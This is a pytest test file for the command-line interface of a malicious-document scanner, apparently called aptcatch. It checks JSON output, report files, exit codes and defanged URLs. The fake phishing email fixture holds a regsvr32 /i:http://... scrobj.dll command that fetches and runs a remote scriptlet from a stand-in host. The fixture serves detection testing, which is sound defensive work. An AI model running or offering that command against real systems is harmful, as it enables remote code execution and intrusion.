"""The scan command's contract: JSON document shape, -o, exit codes, stderr for progress."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from aptcatch.cli import EXIT_INCOMPLETE, EXIT_MALICIOUS, EXIT_USAGE, main

LURE = (
    b"Received: from mx.example-cdn.test\r\nFrom: notice@health-gov.test\r\nTo: staff@hospital.example\r\n"
    b"Subject: form\r\nMessage-ID: <1@health-gov.test>\r\nMIME-Version: 1.0\r\n\r\n"
    b"run regsvr32 /s /n /u /i:http://update.example-cdn.test/ti.sct scrobj.dll\r\n"
)


def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exc:
        main(argv)
    out, err = capsys.readouterr()
    return int(exc.value.code or 0), out, err


def test_json_document_shape(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "lure.eml").write_bytes(LURE)
    (tmp_path / "note.txt").write_bytes(b"see you at lunch")
    code, out, _ = run(["scan", "--json", "--no-progress", "-j", "1", str(tmp_path)], capsys)
    doc = json.loads(out)
    assert doc["schema"] == "aptcatch.scan/1"
    assert code == EXIT_MALICIOUS
    items = {Path(i["path"]).name: i for i in doc["items"]}
    lure = items["lure.eml"]
    for key in ("path", "sha256", "verdict", "score", "techniques", "findings", "indicators", "cves", "lure"):
        assert key in lure
    for key in ("language", "themes", "sectors"):
        assert key in lure["lure"]
    for key in ("name", "type", "sha256", "size", "children", "errors"):
        assert key in lure["artifact"]
    f = lure["findings"][0]
    assert {"id", "title", "severity", "techniques", "artifact"} <= set(f)
    assert {"type": "url", "value": "http://update.example-cdn.test/ti.sct"}.items() <= next(
        i for i in lure["indicators"] if i["type"] == "url"
    ).items()
    assert items["note.txt"]["verdict"] == "clean"


def test_output_file_and_terminal_view(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "220")
    sample = tmp_path / "lure.eml"
    sample.write_bytes(LURE)
    out_file = tmp_path / "report.json"
    code, out, _err = run(["scan", "-o", str(out_file), str(sample)], capsys)
    assert code == EXIT_MALICIOUS
    assert json.loads(out_file.read_text())["items"][0]["verdict"] == "malicious"
    assert "MALICIOUS" in out
    assert "hxxp://update[.]example-cdn[.]test" in out  # defanged on screen
    assert "http://update.example-cdn.test" not in out


def test_missing_input_is_exit_3(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(["scan", "--json", str(tmp_path / "gone.doc")], capsys)
    assert code == EXIT_INCOMPLETE
    assert "gone.doc" in json.loads(out)["items"][0]["errors"][0]


def test_usage_error_is_not_confused_with_malicious(capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(["scan", "--no-such-flag", "x"], capsys)
    assert code == EXIT_USAGE
    assert "no-such-flag" in err.replace("'", "")


def test_schema_command(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(["schema", "scan"], capsys)
    assert code == 0
    assert "ItemResult" in json.loads(out)["$defs"]
